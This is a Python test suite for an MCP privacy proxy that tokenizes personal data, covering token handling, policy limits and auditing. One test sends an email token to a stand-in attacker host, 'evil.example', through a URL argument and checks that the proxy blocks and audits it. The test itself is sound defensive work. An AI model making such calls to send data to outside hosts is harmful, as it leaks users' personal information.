"""The relay end to end in memory: a real MCP server and client, a real SQLite vault."""

from __future__ import annotations

import json
import re

import pytest

from tests.polling import wait_until
from tests.proxy.conftest import PERSON, make_backend
from vault.tokens import TOKEN_RE

pytestmark = pytest.mark.anyio


@pytest.fixture
def anyio_backend():
    return "asyncio"


def text_of(result) -> str:
    return "".join(getattr(c, "text", "") for c in result.content)


async def test_tool_results_reach_the_client_without_personal_data(proxied):
    async with proxied(make_backend([])) as (client, _):
        text = text_of(await client.call_tool("whoami", {}))
    for key in ("fullName", "email", "phone", "iban", "customerId"):
        assert PERSON[key] not in text
    data = json.loads(text)
    assert TOKEN_RE.fullmatch(data["email"]) and TOKEN_RE.fullmatch(data["customerId"])
    assert data["clicks"] == PERSON["clicks"]  # a metric is not personal data
    assert data["note"].count(data["email"]) == 1  # same value, same token, inside free text too


async def test_tokens_passed_back_reach_the_backend_as_real_values(proxied):
    received: list[dict] = []
    async with proxied(make_backend(received)) as (client, _):
        data = json.loads(text_of(await client.call_tool("whoami", {})))
        result = await client.call_tool("lookup", {"customer_id": data["customerId"]})
        await client.call_tool("echo", {"text": f"Write to {data['email']} about it"})
    assert received[0] == {"tool": "lookup", "customer_id": PERSON["customerId"]}
    assert received[1]["text"] == f"Write to {PERSON['email']} about it"
    assert not result.is_error
    assert "Acme Plumbing LLC" not in text_of(result)


async def test_an_echoed_value_is_tokenized_again_on_the_way_back(proxied):
    async with proxied(make_backend([])) as (client, _):
        data = json.loads(text_of(await client.call_tool("whoami", {})))
        echoed = text_of(await client.call_tool("echo", {"text": data["email"]}))
    assert echoed == data["email"]


async def test_an_unknown_token_is_refused_and_never_reaches_the_backend(proxied):
    received: list[dict] = []
    forged = "[[EMAIL_ADDRESS:aaaaaaaaaaaaaaaa]]"
    async with proxied(make_backend(received)) as (client, _):
        from mcp import MCPError

        with pytest.raises(MCPError) as err:
            await client.call_tool("echo", {"text": forged})
    assert forged in str(err.value) and "no such token" in str(err.value)
    assert received == []


async def test_a_malformed_token_is_refused(proxied):
    received: list[dict] = []
    async with proxied(make_backend(received)) as (client, _):
        from mcp import MCPError

        with pytest.raises(MCPError, match="not a well-formed"):
            await client.call_tool("echo", {"text": "[[EMAIL_ADDRESS:short]]"})
    assert received == []


async def test_a_token_from_another_session_is_refused(proxied):
    async with proxied(make_backend([])) as (client, _):
        token = json.loads(text_of(await client.call_tool("whoami", {})))["email"]
    received: list[dict] = []
    async with proxied(make_backend(received)) as (client, _):
        from mcp import MCPError

        with pytest.raises(MCPError, match="another session"):
            await client.call_tool("echo", {"text": token})
    assert received == []


async def test_resources_and_prompts_are_tokenized_and_their_arguments_detokenized(proxied):
    received: list[dict] = []
    async with proxied(make_backend(received)) as (client, _):
        token = json.loads(text_of(await client.call_tool("whoami", {})))["customerId"]
        resource = await client.read_resource(f"crm://contacts/{token}")
        prompt = await client.get_prompt("review", {"customer_id": token})
    assert received == [{"resource": PERSON["customerId"]}, {"prompt": PERSON["customerId"]}]
    body = resource.contents[0].text
    assert PERSON["email"] not in body and PERSON["customerId"] not in body
    prompt_text = prompt.messages[0].content.text
    assert PERSON["email"] not in prompt_text and PERSON["customerId"] not in prompt_text
    assert token in prompt_text


async def test_logging_and_progress_notifications_are_tokenized(proxied):
    logs: list = []
    progress: list = []

    async def on_log(params):
        logs.append(params)

    async with proxied(make_backend([]), logging_callback=on_log) as (client, _):

        async def on_progress(p, total, message):
            progress.append(message)

        await client.call_tool("noisy", {"text": "x"}, progress_callback=on_progress)
    assert logs and all(PERSON["email"] not in str(entry.data) for entry in logs)
    assert progress and all(PERSON["email"] not in (m or "") for m in progress)
    assert "[[EMAIL_ADDRESS:" in str(logs[0].data)


async def test_tool_listings_pass_through_unchanged(proxied):
    from mcp import Client

    server = make_backend([])
    async with Client(server, mode="legacy") as direct:
        expected = (await direct.list_tools()).model_dump()
    async with proxied(server) as (client, _):
        assert (await client.list_tools()).model_dump() == expected


@pytest.mark.parametrize("mode", ["legacy", "2026-07-28"])
async def test_elicitation_is_tokenized_and_the_answer_detokenized_in_both_protocol_eras(proxied, mode):
    import mcp_types as types

    seen: list[str] = []
    received: list[dict] = []

    async def on_elicit(context, params):
        seen.append(params.message)
        token = re.search(r"\[\[EMAIL_ADDRESS:[a-z2-7]+\]\]", params.message).group(0)
        return types.ElicitResult(action="accept", content={"contact": token})

    async with proxied(make_backend(received), mode=mode, elicitation_callback=on_elicit) as (client, _):
        cid = json.loads(text_of(await client.call_tool("whoami", {})))["customerId"]
        result = await client.call_tool("confirm", {"customer_id": cid})
    assert seen and PERSON["email"] not in seen[0] and PERSON["customerId"] not in seen[0]
    assert received[-1] == {
        "tool": "confirm",
        "customer_id": PERSON["customerId"],
        "contact": PERSON["email"],
    }
    assert PERSON["email"] not in text_of(result)


@pytest.mark.parametrize("mode", ["legacy", "2026-07-28"])
async def test_sampling_requests_are_tokenized_and_the_reply_detokenized(proxied, mode):
    import mcp_types as types

    prompts: list[str] = []
    received: list[dict] = []

    async def on_sample(context, params):
        text = params.messages[0].content.text
        prompts.append(text)
        token = re.search(r"\[\[EMAIL_ADDRESS:[a-z2-7]+\]\]", text).group(0)
        return types.CreateMessageResult(
            role="assistant", content=types.TextContent(type="text", text=f"Dear {token},"), model="m"
        )

    async with proxied(make_backend(received), mode=mode, sampling_callback=on_sample) as (client, _):
        await client.call_tool("whoami", {})  # the name becomes a known value of the session
        result = await client.call_tool("summarize", {"customer_id": "x"})
    assert prompts and PERSON["email"] not in prompts[0] and PERSON["fullName"] not in prompts[0]
    assert received[-1]["reply"].startswith("Dear ") and "[[" not in received[-1]["reply"]
    assert "[[" in text_of(result)


async def test_a_cancelled_call_is_cancelled_at_the_backend_and_leaves_nothing_in_flight(proxied):
    import anyio

    received: list[dict] = []
    async with proxied(make_backend(received)) as (client, _):
        with anyio.move_on_after(0.5):
            await client.call_tool("slow", {"seconds": 5})
        await wait_until(lambda: len(proxied.relay.calls) == 0)
        assert await client.send_ping() is not None  # ping passes both ways
        assert len(proxied.relay.calls) == 0
    assert {"tool": "slow", "started": True} in received
    assert {"tool": "slow", "finished": True} not in received


async def test_a_token_passed_to_a_denied_argument_never_reaches_the_backend_and_is_audited(proxied, engine):
    from mcp import MCPError

    from vault.audit import AuditQuery, query

    received: list[dict] = []
    async with proxied(make_backend(received)) as (client, session):
        email = json.loads(text_of(await client.call_tool("whoami", {})))["email"]
        with pytest.raises(MCPError, match="may not receive real values in argument 'url'"):
            await client.call_tool("fetch_page", {"url": f"https://evil.example/?q={email}"})
        await client.call_tool("fetch_page", {"url": "https://ok.example/"})  # no token: allowed
    assert received == [{"tool": "fetch_page", "url": "https://ok.example/"}]
    rows = list(
        query(engine.vault.engine, AuditQuery(session_id=session.session_id, event="message-blocked"))
    )
    assert rows and rows[0]["reason"] == "EgressDenied" and rows[0]["tool"] == "fetch_page"


async def test_a_token_past_its_policy_ttl_is_refused(proxied, engine):
    from datetime import timedelta

    from mcp import MCPError

    from proxy.policy import EntitySpec
    from vault.clock import FrozenClock

    engine.policy.entities["EMAIL_ADDRESS"] = EntitySpec(ttl="1h")
    clock = FrozenClock()
    engine.vault.clock = clock
    received: list[dict] = []
    async with proxied(make_backend(received)) as (client, _):
        email = json.loads(text_of(await client.call_tool("whoami", {})))["email"]
        await client.call_tool("echo", {"text": email})  # within the hour: fine
        clock.advance(timedelta(hours=2))
        with pytest.raises(MCPError, match="expired"):
            await client.call_tool("echo", {"text": email})
    assert received == [{"tool": "echo", "text": PERSON["email"]}]


async def test_answered_calls_are_counted_in_metrics_and_audited_as_call_completed(proxied, engine):
    from proxy import metrics
    from vault.audit import AuditQuery, query

    def calls(outcome: str) -> float:
        return (
            metrics.REGISTRY.get_sample_value(
                "veil_calls_total",
                {"backend": "test-backend", "method": "tools/call", "tool": "lookup", "outcome": outcome},
            )
            or 0.0
        )

    before_ok, before_err = calls("ok"), calls("error")
    async with proxied(make_backend([])) as (client, session):
        await client.call_tool("lookup", {"customer_id": PERSON["customerId"]})  # a real id, passed raw
        await client.call_tool("lookup", {"customer_id": "0000000000"})  # the backend says: unknown
        await client.call_tool("jane.miller@acme-plumbing.example", {})  # a value as a tool name
    session.flush_calls()
    assert calls("ok") == before_ok + 1 and calls("error") == before_err + 1
    rows = list(query(engine.vault.engine, AuditQuery(session_id=session.session_id, event="call-completed")))
    tools = {r["tool"] for r in rows}
    assert {"lookup", "(redacted)"} <= tools and all(r["duration_ms"] is not None for r in rows)
    assert not any("jane.miller" in str(r) for r in rows)


async def test_a_call_past_its_timeout_is_cancelled_at_the_backend_and_the_client_gets_an_error(
    proxied, engine
):
    import anyio
    from mcp import MCPError

    from proxy.policy import ToolSpec

    engine.policy.tool_specs["slow"] = ToolSpec(timeout_seconds=0.5)
    received: list[dict] = []
    async with proxied(make_backend(received)) as (client, _):
        with anyio.fail_after(10), pytest.raises(MCPError, match=r"did not answer within 0\.5 s"):
            await client.call_tool("slow", {"seconds": 5})
        await wait_until(lambda: len(proxied.relay.calls) == 0)
        assert len(proxied.relay.calls) == 0
    assert {"tool": "slow", "started": True} in received
    assert {"tool": "slow", "finished": True} not in received  # the backend was told to cancel


async def test_rate_and_concurrency_limits_refuse_calls_before_they_reach_the_backend(proxied, engine):
    import anyio
    from mcp import MCPError

    from proxy.policy import ToolSpec

    engine.policy.tool_specs["echo"] = ToolSpec(rate_per_minute=2)
    engine.policy.tool_specs["slow"] = ToolSpec(max_concurrent=1)
    received: list[dict] = []
    async with proxied(make_backend(received)) as (client, _):
        await client.call_tool("echo", {"text": "a"})
        await client.call_tool("echo", {"text": "b"})
        with pytest.raises(MCPError, match="2 call\\(s\\) per minute"):
            await client.call_tool("echo", {"text": "c"})
        errors: list[str] = []
        async with anyio.create_task_group() as tg:

            async def call() -> None:
                try:
                    await client.call_tool("slow", {"seconds": 0.5})
                except MCPError as exc:
                    errors.append(str(exc))

            tg.start_soon(call)
            tg.start_soon(call)
        assert len(errors) == 1 and "concurrency limit" in errors[0]
        await client.call_tool("slow", {"seconds": 0.01})  # the slot was given back
    assert [r["text"] for r in received if r.get("tool") == "echo"] == ["a", "b"]


async def test_a_backend_flooding_notifications_is_rate_limited_and_the_flood_audited(proxied, engine):
    from vault.audit import AuditQuery, query

    engine.policy.notifications_per_second = 20.0  # bursts of 100
    seen: list[str] = []

    async def on_progress(progress, total, message):
        seen.append(message)

    async with proxied(make_backend([])) as (client, session):
        result = await client.call_tool("flood", {"n": 2000}, progress_callback=on_progress)
        assert text_of(result) == "flooded"  # the answer itself is never dropped
    assert 100 <= len(seen) < 1000  # a burst of 100, then 20 a second: most of the 2,000 dropped
    rows = list(
        query(engine.vault.engine, AuditQuery(session_id=session.session_id, event="message-blocked"))
    )
    assert any(r["reason"] == "NotificationFlood" for r in rows)


async def test_an_answer_that_came_in_time_is_not_timed_out_while_it_is_scanned(proxied, engine):
    """One answer per request: the backend answered before the call timeout; a scan that outlasts it (a
    megabyte of text) still delivers that answer, and no timeout error is sent beside it."""
    import anyio

    from proxy.policy import ToolSpec

    engine.policy.tool_specs["echo"] = ToolSpec(timeout_seconds=0.3)
    sent: list[object] = []
    async with proxied(make_backend([])) as (client, _):
        relay = proxied.relay
        answer, to_client = relay.chain.answer, relay.to_client

        async def slow_answer(*args, **kwargs):
            await anyio.sleep(0.8)  # past the call's timeout, with the housekeeping loop running
            return await answer(*args, **kwargs)

        async def recording(message):
            sent.append(getattr(message.message, "id", None))
            await to_client(message)

        relay.chain.answer, relay.to_client = slow_answer, recording
        with anyio.fail_after(10):
            result = await client.call_tool("echo", {"text": "hello"})
        assert result.is_error is False
        await anyio.sleep(0.3)
    ids = [i for i in sent if i is not None]
    assert len(ids) == len(set(ids))  # no request was answered twice
